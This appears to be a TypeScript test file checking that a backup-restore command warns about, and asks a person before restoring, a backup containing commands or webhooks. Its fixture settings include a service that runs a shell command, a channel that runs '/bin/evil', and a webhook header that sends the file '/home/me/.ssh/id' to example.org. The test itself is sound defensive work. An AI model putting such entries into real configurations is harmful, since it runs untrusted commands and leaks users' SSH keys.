import { existsSync, readdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { expect, it } from 'vitest';
import { createFakeContext } from '../../../tests/helpers/fake-context';
import { createFakeTerminal } from '../../../tests/helpers/fake-terminal';
import { createTar } from '../../../tests/helpers/hostile-tar';
import { runCommand } from '../../../tests/helpers/run-command';
import { temporaryDirectory } from '../../../tests/helpers/temporary';
import { EXIT } from './verb';

const SETTINGS = `
automation: { levels: { memory: automatic } }
services:
  - { name: evil, kind: command, command: [/bin/sh, -c, 'touch /tmp/x'] }
  - { name: web, kind: port, port: 80, restart_on_failure: true, commands: { start: [/opt/web] } }
`;
const ALERTS = `
channels:
  - { name: run, kind: command, command: [/bin/evil] }
  - { name: post, kind: webhook, url: 'https://example.org/', headers: { x: 'file:/home/me/.ssh/id' } }
  - { name: desktop, kind: desktop }
routing: { default_channels: [run] }
`;

function createArchive(files: Readonly<Record<string, string>>): string {
  const file = join(temporaryDirectory(), 'backup.tar.gz');
  const manifest = { name: 'backup.json', content: '{"homeostat_backup":1,"createdAtMs":1}' };
  const entries = Object.entries(files).map(([name, content]) => ({ name, content }));
  writeFileSync(file, gzipSync(createTar([manifest, ...entries])));
  return file;
}

function createHome(isTerminal: boolean) {
  const home = temporaryDirectory();
  const terminal = createFakeTerminal(isTerminal ? { columns: 80, rows: 24 } : undefined);
  const directories = { config: home, data: home, state: home, socket: join(home, 'socket') };
  return { home, terminal, context: { ...createFakeContext({}, { json: false, terminal }), directories } };
}

const archive = () => createArchive({ 'homeostat.yaml': SETTINGS, 'alerts.yaml': ALERTS });

it('lists commands and automatic changes, and refuses without a terminal', async () => {
  const { home, terminal, context } = createHome(false);
  await expect(runCommand(context, ['restore', archive()])).rejects.toThrow('contains commands or automatic changes');
  expect(terminal.warned).toEqual([
    'This backup contains 5 things that Homeostat would run or change:',
    `  service evil runs /bin/sh -c "touch /tmp/x"`,
    '  service web is restarted with /opt/web',
    '  automation changes the area memory',
    '  channel run runs /bin/evil',
    '  channel post sends or uses file:/home/me/.ssh/id',
  ]);
  expect(readdirSync(home).filter((name) => name !== 'owner.lock')).toEqual([]);
});

it.each([
  ['y\n', true],
  ['\n', false],
  ['no\n', false],
])('asks a person: %j', async (answer, isRestored) => {
  const { home, terminal, context } = createHome(true);
  const result = runCommand(context, ['restore', archive()]);
  terminal.press(answer);
  if (isRestored) expect(await result).toBe(EXIT.healthy);
  else await expect(result).rejects.toThrow('the backup was not restored');
  expect(existsSync(join(home, 'alerts.yaml'))).toBe(isRestored);
});

it('does not ask with --trust-commands, or about a backup without commands', async () => {
  const trusted = createHome(false);
  expect(await runCommand(trusted.context, ['restore', archive(), '--trust-commands'])).toBe(EXIT.healthy);
  expect(trusted.terminal.warned).toHaveLength(6);
  const plain = createHome(false);
  expect(await runCommand(plain.context, ['restore', createArchive({ 'homeostat.yaml': 'interval_seconds: 2' })])).toBe(
    0,
  );
  expect(plain.terminal.warned).toEqual([]);
});
